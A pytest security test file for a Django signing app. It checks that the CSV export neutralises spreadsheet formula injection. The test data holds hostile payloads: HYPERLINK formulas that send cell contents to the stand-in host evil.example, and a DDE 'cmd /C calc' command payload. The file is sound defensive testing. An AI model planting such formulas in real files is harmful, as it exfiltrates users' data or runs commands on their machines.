"""The board's CSV export opens in spreadsheets. A client's name, a title or a decline reason
written by outsiders that starts with "=" (=HYPERLINK(...)) must come out as text, not as a
formula (OWASP "CSV injection": a leading quote before = + - @ tab CR)."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client

from signing.board import csv_cell
from signing.models import Envelope
from tests import factories
from tests.security.conftest import World
from tests.signing.conftest import sign_with_code

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Boulangerie Martin")'
EVIL_TITLE = '=HYPERLINK("https://evil.example/steal","Facture F-0042")'
EVIL_REASON = '=HYPERLINK("https://evil.example/","Voir le devis corrigé"), merci\nPaul'


def _rows(client: Client) -> list[dict[str, str]]:
    response = client.get("/board/list.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def declined(world: World) -> Envelope:
    """The sender's envelope for a client whose name is a formula, with a formula as title,
    declined by the signer with a formula as the reason."""
    counterparty = factories.make_counterparty(legal_name=EVIL_NAME)
    Envelope.objects.filter(pk=world.envelope.pk).update(
        counterparty=counterparty, title=EVIL_TITLE, amount=Decimal("-125.50")
    )
    signer = Client()
    sign_with_code(signer, world.token, world.party.email)
    assert signer.post(f"/s/{world.token}/decline/", {"reason": EVIL_REASON}).status_code == 302
    world.envelope.refresh_from_db()
    assert world.envelope.status == Envelope.Status.DECLINED
    return world.envelope


def test_formulas_written_by_outsiders_come_out_escaped(
    declined: Envelope, sender_client: Client
) -> None:
    (row,) = [r for r in _rows(sender_client) if r["Code"] == declined.public_id]
    assert row["Client"] == "'" + EVIL_NAME
    assert row["Title"] == "'" + EVIL_TITLE
    # The reason keeps its comma and line break inside one quoted cell.
    assert row["Reason"] == "'" + EVIL_REASON
    # A plain negative amount is a number, not a formula: it stays summable.
    assert row["Amount"] == "-125.50"


def test_no_cell_of_the_export_starts_a_formula(declined: Envelope, sender_client: Client) -> None:
    for row in _rows(sender_client):
        for value in row.values():
            if value and value != "-125.50":
                assert value[0] not in "=+-@\t\r", value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u202e=1+1", "'=1+1"),  # an invisible character in front hides nothing
        ("Boulangerie Martin", "Boulangerie Martin"),
        ("-125.50", "-125.50"),
        ("1250.00", "1250.00"),
        ("", ""),
        (None, ""),
    ],
)
def test_one_helper_escapes_every_cell(value: str | None, expected: str) -> None:
    assert csv_cell(value) == expected
